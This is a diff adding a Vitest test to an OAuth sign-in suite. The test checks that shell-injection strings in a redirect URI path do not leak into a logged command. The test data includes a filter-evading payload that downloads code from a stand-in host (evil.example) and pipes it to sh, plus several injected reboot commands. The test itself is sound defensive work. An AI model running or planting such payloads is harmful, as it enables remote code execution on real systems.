@@ -257,4 +257,18 @@ describe('the way back', () => {
     log.mockRestore()
     vi.unstubAllEnvs()
   })
+
+  test.each([';curl$IFS-sL$IFS$9evil.example|sh', '$(reboot)', '`reboot`', '&reboot', "'"])(
+    'a command to copy contains nothing of a path that ends in %s',
+    async (path) => {
+      const log = vi.spyOn(console, 'error').mockImplementation(() => undefined)
+      const { issuer, open, signIn } = await createAuthScene({ redirect_uri: `${APP}/a${path}` })
+      issuer.instead.set('/oauth/token', 'away')
+      const { auth } = await signIn(open())
+      expect(auth.getState()).toMatchObject({ error: { code: 'wrong_registration' } })
+      expect(JSON.stringify(log.mock.calls)).toContain('--redirect … ')
+      expect(JSON.stringify(log.mock.calls)).not.toContain(path)
+      log.mockRestore()
+    },
+  )
 })
